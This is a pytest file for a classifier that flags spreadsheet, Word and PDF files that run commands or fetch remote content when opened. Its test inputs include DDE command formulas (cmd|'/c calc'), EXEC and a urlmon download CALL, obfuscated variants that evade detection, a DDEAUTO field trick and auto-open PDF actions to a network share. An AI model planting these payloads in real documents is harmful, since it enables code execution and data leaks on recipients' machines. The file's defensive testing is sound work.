"""What a file does by itself when it is opened: only what leads to no other machine and runs nothing."""

from io import BytesIO
from xml.sax.saxutils import escape

import pytest
from pikepdf import Array, Dictionary, Name, Pdf, String

from models.sent_files.findings import DOCX, PDF, XLSX, UnfitFileError
from models.sent_files.structure import kind_by_structure
from tests.homes import sample_files
from tests.homes.sample_files import links, package, word

SHEET = "xl/worksheets/sheet1.xml"


def looked(content: bytes) -> str:
    try:
        return kind_by_structure(BytesIO(content))
    except UnfitFileError as unfit:
        return unfit.why.value


def sheet(inside: str) -> bytes:
    return package(others={SHEET: f"<worksheet><c>{inside}</c></worksheet>"})


@pytest.mark.parametrize(
    ("formula", "found"),
    [
        ("SUM(A1:A9)*100/B2", XLSX),
        ('"a|b: " & HYPERLINK("http://example.vn/" & A1, "xem")', XLSX),
        ("'Biểu 1|2'!A1 + Bảng1[[#This Row],[Sở|Ngành]] + '[1]Năm 2022'!A1 + '[DDE|x.xlsx]S'!A1", XLSX),
        ("TRIM(A1) & MYWEBSERVICE(1) & RUNX(2) & 'C:\\a\\[b.xlsx]S'!A1", XLSX),
        ("cmd|'/c calc'!A0", "dde"),
        ('DDE("soffice";"x";"y")', "dde"),
        ("1+MSExcel | 'x'!_xlbgnm.A1", "dde"),
        ('_xlfn.WEBSERVICE("http://example.vn/" & A1)', "fetches"),
        ('_xlfn._xlws.IMAGE ("x")', "fetches"),
        ('if(1;rtd("x";"";"y");0)', "fetches"),
        ("'\\\\may\\chung\\[so.xlsx]S'!A1", "fetches"),
        ("'http://example.vn/[so.xlsx]S'!A1", "fetches"),
        ('EXEC("calc")', "macros"),
        ('CALL("urlmon","URLDownloadToFileA","JJCCBB",0,"http://example.vn/x","c:\\x",0,0)', "macros"),
    ],
)
def test_a_formula_reckons_and_does_nothing_else(formula: str, found: str) -> None:
    assert looked(sheet(f"<f>{escape(formula)}</f>")) == found


@pytest.mark.parametrize(
    "content",
    [
        sheet("<x:f xmlns:x='x'>&#67;MD&#x7C;'/c'!A0</x:f>"),
        sheet("<f>cmd<![CDATA[|]]>'/c'!A0</f>"),
        sheet("<f>DD<!-- -->E(1)</f>"),
        sheet("<cfRule><formula>cmd|'/c'!A0</formula></cfRule>"),
        package(others={SHEET: "<worksheet><f>cmd|'/c'!A0</f></worksheet>".encode("utf-16")}),
        package(
            others={"xl/tables/table1.xml": "<table><calculatedColumnFormula>a|b!c</calculatedColumnFormula></table>"}
        ),
        package(others={"xl/Workbook.xml": "<workbook><definedName name='x'>cmd|'/c'!A0</definedName></workbook>"}),
    ],
    ids=map(str, range(7)),
)
def test_a_formula_is_read_wherever_it_stands_and_however_it_is_written(content: bytes) -> None:
    assert looked(content) == "dde"


def field(*parts: str) -> bytes:
    """Return a Word file with a field: `{`, `|` and `}` begin it, part its result, and end it; the rest is its words."""
    marks = {"{": "begin", "|": "separate", "}": "end"}
    runs = (
        f'<w:fldChar w:fldCharType="{marks[part]}"/>' if part in marks else f"<w:instrText>{escape(part)}</w:instrText>"
        for part in parts
    )
    return word({"word/header1.xml": f'<w:hdr xmlns:w="w">{"".join(runs)}</w:hdr>'})


@pytest.mark.parametrize(
    ("content", "found"),
    [
        (field("{", " IF ", "{", " MERGEFIELD x ", "}", ' = 1 "a" "b"', "|", "{", " PAGEREF x ", "}", "}"), DOCX),
        (field("{", "=SUM(", "{", " SEQ x ", "}", ")", "}"), DOCX),
        (field("{", ' INCLUDEPICTURE "http://example.vn/a.png" \\* MERGEFORMATINET ', "|", "}"), DOCX),
        (field("{", ' INCLUDETEXT "C:\\\\So lieu\\\\a.docx" ', "}"), DOCX),
        (field("{", " ", "{", " QUOTE 68 68 69 65 85 84 79 ", "}", " c:\\x ", "}"), "dde"),
        (field("{", "DD", "{", " QUOTE 69 ", "}", " c:\\x ", "}"), "dde"),
        (field("{", "DD", "{", "}", "EAUTO"), "dde"),
        (field("{", ' INCLUDEPICTURE "http://example.vn/a.png" \\d ', "|", "}"), "fetches"),
        (field("{", ' INCLUDEPICTURE "\\\\\\\\may\\\\a.png" ', "}"), "fetches"),
        (field("{", " includetext file://may/a.docx ", "}"), "fetches"),
        (field("{", ' LINK Excel.Sheet.12 "http://example.vn/a.xlsx" "S!R1C1" \\a ', "}"), "fetches"),
        (word({"_rels/.rels": links(("extensibility", "http://example.vn/x.xml"))}), "fetches"),
    ],
    ids=map(str, range(12)),
)
def test_a_field_fetches_nothing_and_its_name_stands_there(content: bytes, found: str) -> None:
    assert looked(content) == found


def opening(action: object, place: str = "/OpenAction") -> bytes:
    made = BytesIO()
    with Pdf.open(BytesIO(sample_files.PDF)) as read:
        read.Root[place] = action
        read.save(made)
    return made.getvalue()


SHARE = String("\\\\may\\x")


@pytest.mark.parametrize(
    ("content", "found"),
    [
        (opening(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]))), PDF),
        (opening(Dictionary(S=Name.Named, N=Name.Print)), PDF),
        (opening(Dictionary(S=Name.GoToR, F=SHARE)), "fetches"),
        (opening(Dictionary(S=Name.URI, URI=String("http://example.vn"))), "fetches"),
        (opening(Dictionary(O=Dictionary(S=Name.SubmitForm, F=SHARE)), "/AA"), "fetches"),
        (opening(Dictionary(S=Name.GoTo, Next=Array([Dictionary(S=Name.GoToR, F=SHARE)]))), "fetches"),
    ],
    ids=map(str, range(6)),
)
def test_a_pdf_leads_nowhere_else_by_itself(content: bytes, found: str) -> None:
    assert looked(content) == found


def test_a_chain_of_actions_without_an_end_comes_to_one() -> None:
    made = BytesIO()
    with Pdf.open(BytesIO(sample_files.PDF)) as read:
        read.Root.OpenAction = read.make_indirect(Dictionary(S=Name.GoTo))
        read.Root.OpenAction.Next = read.Root.OpenAction
        read.save(made)
    assert looked(made.getvalue()) == "too-much"
